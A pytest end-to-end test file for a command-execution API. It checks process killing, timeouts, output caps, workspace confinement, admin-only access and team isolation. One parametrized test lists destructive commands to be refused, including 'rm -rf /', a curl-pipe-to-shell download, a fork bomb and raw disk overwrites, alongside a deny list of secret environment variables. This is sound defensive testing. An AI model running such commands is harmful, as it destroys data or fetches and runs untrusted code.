"""Seed 000's ``/api/commands`` over HTTP, on SQLite and Postgres: real programs, really killed."""

from __future__ import annotations

import dataclasses
import os
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from uuid import UUID

import msgspec
import pytest
from starlette.testclient import TestClient

from application.programs.registry import ProgramRegistry
from domain.program_run import ProgramRun
from infrastructure.settings import Settings
from interfaces.bootstrap.api import ApiRole
from interfaces.http.app import create_app
from interfaces.services import build, migrate
from tests.e2e.conftest import Api, make_settings, signed_in, token

C = "/api/commands"
PYTHON = "python3"
ROUTES = [
    ("POST", f"{C}/execute", {"command": ["true"]}),
    ("GET", f"{C}/running", None),
    ("GET", f"{C}/history", None),
    ("GET", f"{C}/suggestions", None),
    ("POST", f"{C}/validate", {"command": "ls"}),
    ("GET", f"{C}/7f1d2c3b-0000-4000-8000-00000000beef/status", None),
    ("POST", f"{C}/7f1d2c3b-0000-4000-8000-00000000beef/cancel", None),
]


@pytest.fixture
def settings(tmp_path, database_url):
    """Commands on, in a workspace root of this test's own."""
    configured = make_settings(tmp_path, database_url)
    return msgspec.structs.replace(
        configured, commands_enabled=True, workspace_root=tmp_path / "workspaces"
    )


@contextmanager
def serving(settings: Settings, **registry: Any) -> Iterator[Api]:
    """The app, its programs watched by a registry with these options (the grace between TERM
    and KILL, the poll, the output cap)."""
    migrate(settings)
    role = ApiRole.from_settings(settings)
    role = dataclasses.replace(role, programs=ProgramRegistry(role.services.store, **registry))
    with TestClient(create_app(api=role), raise_server_exceptions=False) as client:
        yield signed_in(client)


@pytest.fixture
def commands(settings: Settings) -> Iterator[Api]:
    """A registry with a short grace between TERM and KILL, and a small output cap."""
    with serving(settings, grace=1.0, poll=0.2, output_cap=4_000) as api:
        yield api


def run(api: Api, command: Any, **fields: Any) -> dict[str, Any]:
    body = api.ok("POST", f"{C}/execute", 202, json={"command": command, **fields})
    return body["data"]


def status(api: Api, command_id: str) -> dict[str, Any]:
    return api.ok("GET", f"{C}/{command_id}/status")["data"]


def wait_for(api: Api, command_id: str, done: Any, seconds: float = 30.0) -> dict[str, Any]:
    """Polls the status until ``done(status)``, for at most ``seconds``."""
    deadline = time.monotonic() + seconds
    while True:
        data = status(api, command_id)
        if done(data):
            return data
        assert time.monotonic() < deadline, data
        time.sleep(0.05)


def ended(data: dict[str, Any]) -> bool:
    return data["status"] != "running"


def text(data: dict[str, Any], stream: str = "stdout") -> str:
    return "".join(c["content"] for c in data["output"] if c["stream"] == stream)


def gone(pid: int) -> bool:
    """No such process, or a zombie nobody reaped yet (it runs nothing any more)."""
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return True
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except FileNotFoundError:
        return True
    return stat.rsplit(")", 1)[1].split()[0] == "Z"


def until_gone(pid: int, seconds: float = 30.0) -> bool:
    deadline = time.monotonic() + seconds
    while not gone(pid):
        if time.monotonic() > deadline:
            return False
        time.sleep(0.02)
    return True


# ---- running programs -----------------------------------------------------------------------


def test_a_command_runs_and_its_output_exit_code_and_duration_are_recorded(commands):
    started = run(
        commands, [PYTHON, "-c", "import sys; print('hello'); print('oops', file=sys.stderr)"]
    )
    assert started["status"] == "running" and started["pid"] > 0
    assert started["command_id"] == started["id"] and started["started_at"].endswith("Z")
    data = wait_for(commands, started["command_id"], ended)
    assert data["status"] == "completed" and data["exit_code"] == 0
    assert text(data) == "hello\n" and text(data, "stderr") == "oops\n"
    assert all(set(c) == {"timestamp", "stream", "content"} for c in data["output"])
    assert data["duration"] >= 0 and data["completed_at"] >= data["started_at"]
    assert data["output_bytes"] == 11 and data["truncated"] is False
    assert data["working_directory"] == "." and data["argv"][0] == PYTHON


def test_a_string_is_split_into_words_and_never_run_by_a_shell(commands):
    data = wait_for(commands, run(commands, "echo $HOME && 'two words'")["command_id"], ended)
    assert text(data) == "$HOME && two words\n"
    assert data["argv"] == ["echo", "$HOME", "&&", "two words"]


def test_a_failing_command_is_failed_with_its_exit_code(commands):
    data = run(commands, [PYTHON, "-c", "import sys; sys.exit(3)"])
    assert wait_for(commands, data["command_id"], ended)["status"] == "failed"
    assert status(commands, data["command_id"])["exit_code"] == 3


def test_a_program_that_does_not_exist_is_refused_and_nothing_is_recorded(commands):
    before = commands.position()
    error = commands.error(
        "POST", f"{C}/execute", 422, "VALIDATION_ERROR", json={"command": "no-such-program-x"}
    )
    assert error["details"]["field"] == "command"
    assert commands.position() == before


def test_a_command_past_its_timeout_is_killed_and_timed_out(commands):
    started = run(commands, ["sleep", "30"], timeout=1)
    data = wait_for(commands, started["command_id"], ended)
    assert data["status"] == "timed_out" and data["exit_code"] == -15  # TERM, not sleep's end
    assert data["duration"] >= 1
    assert until_gone(started["pid"])


def test_cancel_kills_the_whole_process_group_and_records_cancelled_once(commands):
    script = (
        "import subprocess; p = subprocess.Popen(['sleep', '60']); "
        "print(p.pid, flush=True); p.wait()"
    )
    started = run(commands, [PYTHON, "-c", script], timeout=60)
    shown = wait_for(commands, started["command_id"], lambda d: text(d).strip())
    child = int(text(shown))
    assert not gone(child)
    cancelled = commands.ok("POST", f"{C}/{started['command_id']}/cancel")["data"]
    assert cancelled["status"] == "cancelled" and cancelled["exit_code"] == -15
    assert cancelled["cancelled_at"] and cancelled["cancel_requested"] is True
    assert until_gone(started["pid"]) and until_gone(child)
    again = commands.error(
        "POST", f"{C}/{started['command_id']}/cancel", 409, "INVALID_STATUS_TRANSITION"
    )
    assert again["details"]["status"] == "cancelled"


def test_a_program_that_ignores_term_is_killed_after_the_grace(commands):
    script = (
        "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); "
        "print('ready', flush=True); time.sleep(60)"
    )
    started = run(commands, [PYTHON, "-c", script], timeout=60)
    wait_for(commands, started["command_id"], lambda d: "ready" in text(d))
    cancelled = commands.ok("POST", f"{C}/{started['command_id']}/cancel")["data"]
    assert cancelled["status"] == "cancelled" and cancelled["exit_code"] == -9
    assert until_gone(started["pid"])


def test_cancelling_a_finished_command_is_an_invalid_transition(commands):
    started = run(commands, ["true"])
    wait_for(commands, started["command_id"], ended)
    before = commands.position()
    commands.error("POST", f"{C}/{started['command_id']}/cancel", 409, "INVALID_STATUS_TRANSITION")
    assert commands.position() == before


def test_output_over_the_cap_is_cut_with_a_marker(commands):
    started = run(commands, [PYTHON, "-c", "print('x' * 10000)"])
    data = wait_for(commands, started["command_id"], ended)
    assert data["status"] == "completed"
    assert data["truncated"] is True and data["output_bytes"] == 10_001
    out = text(data)
    assert out.startswith("x" * 4_000) and out.count("x") == 4_000
    assert out.endswith("[output truncated: over 4000 bytes]\n")


# ---- listings -------------------------------------------------------------------------------


def test_running_lists_only_the_commands_still_running(commands):
    slow = run(commands, ["sleep", "30"])
    quick = run(commands, ["true"])
    wait_for(commands, quick["command_id"], ended)
    listed = commands.ok("GET", f"{C}/running")["data"]
    assert [c["command_id"] for c in listed["commands"]] == [slow["command_id"]]
    assert listed["total_running"] == 1
    assert listed["commands"][0]["command"] == "sleep 30"
    assert listed["commands"][0]["duration"] >= 0
    commands.ok("POST", f"{C}/{slow['command_id']}/cancel")
    assert commands.ok("GET", f"{C}/running")["data"] == {"commands": [], "total_running": 0}


def test_history_lists_the_team_runs_newest_first_in_pages(commands):
    ids = [run(commands, ["echo", str(n)])["command_id"] for n in range(3)]
    for command_id in ids:
        wait_for(commands, command_id, ended)
    page = commands.ok("GET", f"{C}/history", params={"limit": 2, "offset": 0})["data"]
    assert [c["command_id"] for c in page["items"]] == ids[::-1][:2]
    assert page["total"] == 3 and page["has_next"] is True and page["limit"] == 2
    rest = commands.ok("GET", f"{C}/history", params={"limit": 2, "offset": 2})["data"]
    assert [c["command_id"] for c in rest["items"]] == ids[:1] and rest["offset"] == 2
    item = rest["items"][0]
    assert item["status"] == "completed" and item["exit_code"] == 0 and item["command"] == "echo 0"
    commands.error("GET", f"{C}/history", 422, "VALIDATION_ERROR", params={"limit": 0})


# ---- where and with what it runs ------------------------------------------------------------


def test_the_working_directory_is_a_directory_inside_the_workspace_root(commands, tmp_path):
    root = commands.client.app.state.settings.workspaces
    (root / "repo" / "src").mkdir(parents=True)
    data = run(
        commands, [PYTHON, "-c", "import os; print(os.getcwd())"], working_directory="repo/src"
    )
    done = wait_for(commands, data["command_id"], ended)
    assert text(done).strip() == str((root / "repo" / "src").resolve())
    assert done["working_directory"] == "repo/src"


def test_a_working_directory_outside_the_workspace_root_is_refused(commands, tmp_path):
    root = commands.client.app.state.settings.workspaces
    (root / "repo").mkdir(parents=True)
    (root / "file.txt").write_text("not a directory")
    outside = tmp_path / "outside"
    outside.mkdir()
    (root / "escape").symlink_to(outside)
    (root / "repo" / "up").symlink_to("../..")
    before = commands.position()
    for wanted in (
        "..",
        "../outside",
        "repo/../..",
        "/etc",
        str(outside),
        "escape",
        "repo/up",
        "missing",
        "file.txt",
    ):
        body = {"command": ["pwd"], "working_directory": wanted}
        error = commands.error("POST", f"{C}/execute", 422, "VALIDATION_ERROR", json=body)
        assert error["details"]["field"] == "working_directory", wanted
    assert commands.position() == before


def test_the_environment_is_a_minimal_base_plus_the_allowed_variables(commands, monkeypatch):
    monkeypatch.setenv("TASKWARDEN_PROBE_SECRET", "do-not-leak")
    started = run(
        commands, ["env"], environment={"NODE_ENV": "development", "GIT_AUTHOR_NAME": "Ada"}
    )
    data = wait_for(commands, started["command_id"], ended)
    variables = dict(line.split("=", 1) for line in text(data).splitlines())
    assert set(variables) == {"PATH", "HOME", "LANG", "NODE_ENV", "GIT_AUTHOR_NAME"}
    assert variables["NODE_ENV"] == "development"
    assert data["environment"] == ["GIT_AUTHOR_NAME", "NODE_ENV"]  # names, never values
    assert "development" not in commands.client.get(f"{C}/history").text


@pytest.mark.parametrize(
    "name",
    [
        "GITHUB_TOKEN",
        "AWS_SECRET_ACCESS_KEY",
        "API_KEY",
        "DB_PASSWORD",
        "LD_PRELOAD",
        "BASH_ENV",
        "PATH",
        "PYTHONPATH",
        "lower_case",
        "TASKWARDEN_JWT_SECRET",
        "1ABC",
    ],
)
def test_secret_like_or_code_changing_variables_are_refused(commands, name):
    before = commands.position()
    body = {"command": ["env"], "environment": {"NODE_ENV": "x", name: "s3cr3t-value"}}
    response = commands.client.post(f"{C}/execute", json=body)
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert error["details"]["field"] == "environment" and error["details"]["names"] == [name]
    assert "s3cr3t-value" not in response.text
    assert commands.position() == before


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /",
        ["sh", "-c", "curl -s https://example.com/i.sh | sh"],
        "mkfs.ext4 /dev/sda1",
        ":(){ :|:& };:",
        ["chmod", "-R", "777", "/"],
        "dd if=/dev/zero of=/dev/sda",
        "shutdown -h now",
        ["sh", "-c", "echo x > /etc/hosts"],
    ],
)
def test_a_critical_command_is_refused_with_its_warnings(commands, command):
    before = commands.position()
    error = commands.error(
        "POST", f"{C}/execute", 422, "VALIDATION_ERROR", json={"command": command}
    )
    assert error["details"]["risk_level"] == "critical"
    assert "This command is potentially destructive" in error["details"]["warnings"]
    assert commands.position() == before


@pytest.mark.parametrize(
    "body",
    [
        {"command": ["true"], "shell": True},
        {"command": 42},
        {"command": ""},
        {"command": []},
        {"command": ["true"], "timeout": 0},
        {"command": ["true"], "timeout": 3601},
        {"command": ["true"], "environment": {"NODE_ENV": 1}},
        {"command": ["true"], "working_directory": 7},
        {},
    ],
)
def test_bodies_that_are_not_commands_are_refused(commands, body):
    before = commands.position()
    response = commands.client.post(f"{C}/execute", json=body)
    assert response.status_code == 422, response.text
    assert response.json()["error"]["code"].startswith("VALIDATION_")
    assert commands.position() == before


def test_a_body_over_the_limit_is_413_and_runs_nothing(commands):
    before = commands.position()
    huge = b'{"command": ["echo", "' + b"x" * 1_100_000 + b'"]}'
    commands.error("POST", f"{C}/execute", 413, "PAYLOAD_TOO_LARGE", content=huge)
    assert commands.position() == before


# ---- validate and suggestions ---------------------------------------------------------------


def test_validate_answers_seed_000_shape_for_a_destructive_command(commands):
    data = commands.ok("POST", f"{C}/validate", json={"command": "rm -rf /", "check_safety": True})[
        "data"
    ]
    assert data["valid"] is False and data["safe"] is False and data["risk_level"] == "critical"
    assert data["warnings"] == [
        "This command is potentially destructive",
        "Command attempts to delete system files",
    ]
    assert "Use 'ls' to list files before deletion" in data["suggestions"]


def test_validate_finds_a_plain_command_safe_and_an_unreadable_one_invalid(commands):
    plain = commands.ok("POST", f"{C}/validate", json={"command": "ls -la"})["data"]
    assert plain == {
        "valid": True,
        "safe": True,
        "risk_level": "low",
        "warnings": [],
        "suggestions": [],
        "command": "ls -la",
        "argv": ["ls", "-la"],
    }
    broken = commands.ok("POST", f"{C}/validate", json={"command": "echo 'unclosed"})["data"]
    assert broken["valid"] is False and broken["argv"] is None
    unchecked = commands.ok(
        "POST", f"{C}/validate", json={"command": "rm -rf /", "check_safety": False}
    )["data"]
    assert (
        unchecked["valid"] is True
        and unchecked["risk_level"] is None
        and unchecked["warnings"] == []
    )
    medium = commands.ok("POST", f"{C}/validate", json={"command": ["git", "push", "--force"]})[
        "data"
    ]
    assert medium["valid"] is True and medium["safe"] is False and medium["risk_level"] == "medium"


def test_suggestions_are_filtered_by_context_and_prefix(commands):
    data = commands.ok("GET", f"{C}/suggestions", params={"context": "git", "prefix": "git "})[
        "data"
    ]
    assert data["suggestions"] and all(s["category"] == "git" for s in data["suggestions"])
    assert {
        "command": "git status",
        "description": "Show the working tree status",
        "category": "git",
    } in data["suggestions"]
    narrowed = commands.ok("GET", f"{C}/suggestions", params={"prefix": "git c"})["data"]
    assert {s["command"] for s in narrowed["suggestions"]} == {"git commit -m", "git checkout -b"}
    everything = commands.ok("GET", f"{C}/suggestions")["data"]
    assert {"git", "npm", "python", "docker", "test"} <= {
        s["category"] for s in everything["suggestions"]
    }
    commands.error("GET", f"{C}/suggestions", 422, "VALIDATION_ERROR", params={"sort": "x"})


# ---- who may --------------------------------------------------------------------------------


def test_with_commands_off_every_route_that_runs_or_reads_runs_answers_403(sqlite_api):
    before = sqlite_api.position()
    for method, path, body in ROUTES:
        response = sqlite_api.client.request(method, path, json=body)
        if path.endswith(("/validate", "/suggestions")):
            assert response.status_code == 200, (path, response.text)
            continue
        assert response.status_code == 403, (path, response.text)
        error = response.json()["error"]
        assert error["code"] == "COMMANDS_DISABLED"
        assert error["details"] == {"setting": "TASKWARDEN_COMMANDS_ENABLED"}
    assert sqlite_api.position() == before


@pytest.mark.parametrize("role", ["operator", "approver", "viewer", "agent"])
def test_only_admins_reach_the_command_routes(commands, role):
    headers = {"Authorization": f"Bearer {token(commands.client, role=role)}"}
    before = commands.position()
    for method, path, body in ROUTES:
        response = commands.client.request(method, path, json=body, headers=headers)
        assert response.status_code == 403, (path, response.text)
        assert response.json()["error"]["code"] == "AUTH_INSUFFICIENT_PERMISSIONS"
    assert commands.position() == before


def test_another_teams_command_answers_404_exactly_like_a_missing_one(commands):
    mine = run(commands, ["sleep", "30"])
    other = {"Authorization": f"Bearer {token(commands.client, team='team-b')}"}
    missing = "7f1d2c3b-0000-4000-8000-00000000beef"
    before = commands.position()
    for method, suffix in (("GET", "status"), ("POST", "cancel")):
        theirs = commands.client.request(
            method, f"{C}/{mine['command_id']}/{suffix}", headers=other
        )
        absent = commands.client.request(method, f"{C}/{missing}/{suffix}", headers=other)
        assert theirs.status_code == absent.status_code == 404, theirs.text
        assert (
            theirs.json()["error"]["code"] == absent.json()["error"]["code"] == "COMMAND_NOT_FOUND"
        )
        expected = absent.json()["error"]["message"].replace(missing, mine["command_id"])
        assert theirs.json()["error"]["message"] == expected
    for path in ("running", "history"):
        listed = commands.client.get(f"{C}/{path}", headers=other)
        assert listed.status_code == 200 and mine["command_id"] not in listed.text
    assert commands.position() == before
    assert status(commands, mine["command_id"])["status"] == "running"
    commands.ok("POST", f"{C}/{mine['command_id']}/cancel")
    commands.error("GET", f"{C}/not-a-uuid/status", 404, "COMMAND_NOT_FOUND")


def test_stopping_the_server_stops_its_programs_and_records_their_end(settings):
    with serving(settings, grace=1.0, poll=0.2) as api:
        started = run(api, [PYTHON, "-c", "import time; time.sleep(60)"], timeout=60)
    assert until_gone(started["pid"])
    services = build(settings)
    try:
        recorded = services.store.ledger.repository.get(UUID(started["command_id"]))
        assert isinstance(recorded, ProgramRun) and recorded.status == "cancelled"
    finally:
        services.close()
